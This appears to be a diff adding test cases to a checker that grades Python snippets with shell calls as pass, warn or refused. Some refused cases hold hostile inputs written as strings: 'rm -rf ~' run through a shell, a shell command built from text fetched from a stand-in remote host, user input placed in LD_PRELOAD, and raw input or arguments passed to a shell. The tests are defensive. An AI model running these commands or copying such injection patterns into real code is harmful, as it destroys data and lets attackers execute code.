@@ -27,6 +27,29 @@ def test_a_program_known_in_a_roundabout_way_warns(code: str) -> None:
     assert verdict(code) is Verdict.WARN
 
 
+OR_NONE = "def f():\n    for p in ['boxes', os.path.expanduser('~/bin/boxes')]:\n        if p:\n            return p\n"
+CHOSEN = "n = sys.argv[1] if len(sys.argv) > 1 else 'm'\n"
+EITHER = "if sys.argv[1]:\n    c = ['boxes', '/J', sys.argv[2]]\nelse:\n    c = ['boxes', '/D', sys.argv[2]]\n"
+CALLED = "def f(q):\n    return subprocess.run(f\"boxes '{q}'\", shell=True)\nf('a')\nf('b')\n"
+HERE = "d = Path(__file__).parent\nw = input()\n"
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        (f"{CHOSEN}os.system(f'ls -lh \"{{n}}\"')\n", Verdict.WARN),
+        (f"{CHOSEN}os.system('ls -lh ' + n)\n", Verdict.WARN),
+        (f"{OR_NONE}    return None\nos.system(f'{{f()}} -x')\n", Verdict.PASS),
+        (f"{OR_NONE}    return None\nsubprocess.run([f()], shell=True)\n", Verdict.PASS),
+        (f"{EITHER}subprocess.run(c, shell=True)\n", Verdict.PASS),
+        (CALLED, Verdict.WARN),
+        (f"{HERE}os.system(f'WHO=\"{{w}}\" python3 {{d}}/clock/scripts/clock.py charge start')\n", Verdict.WARN),
+    ],
+)
+def test_a_value_that_may_be_another_one_or_none_is_judged_by_what_it_is_part_of(code: str, expected: Verdict) -> None:
+    assert verdict(code) is expected
+
+
 def test_a_module_that_every_caller_names_is_known() -> None:
     start = "def load(name):\n    return __import__(name)\n\n\nfirst = load('first')\n"
     assert verdict(start) is Verdict.PASS
@@ -44,6 +67,17 @@ def test_a_module_that_every_caller_names_is_known() -> None:
         "subprocess.run(os.environ.get('BOXES_PATH', 'boxes'), shell=True)\n",
         "subprocess.run(os.getenv('BOXES_CLI') or 'boxes', shell=True)\n",
         "B = sys.argv[1] or 'boxes'\nsubprocess.run(f'{B} -x', shell=True)\n",
+        f"{CHOSEN}os.system(f'{{n}} -lh')\n",
+        f"{CHOSEN}os.system(n)\n",
+        f"{CHOSEN}os.system(f'sh -c \"{{n}}\"')\n",
+        f"import requests\n{CHOSEN}n += requests.get('https://c.example.invalid').text\nos.system(f'ls \"{{n}}\"')\n",
+        f"{OR_NONE}    return input()\nos.system(f'{{f()}} -x')\n",
+        f"{OR_NONE}    return None\nx = f()\nif not x:\n    x = input()\nsubprocess.run([x], shell=True)\n",
+        f"{EITHER}    c = [input()]\nsubprocess.run(c, shell=True)\n",
+        f"{EITHER}    c = ['rm -rf ~', '/D']\nsubprocess.run(c, shell=True)\n",
+        "def f(q):\n    return subprocess.run(f'{q} -x', shell=True)\nf('boxes')\nf(input())\n",
+        f"{HERE}os.system(f'LD_PRELOAD=\"{{w}}\" python3 {{d}}/clock.py charge')\n",
+        f"{HERE}os.system(f'WHO={{w}}; start {{d}}/clock.py')\n",
     ],
 )
 def test_what_would_wear_its_excuse_is_refused(code: str) -> None:
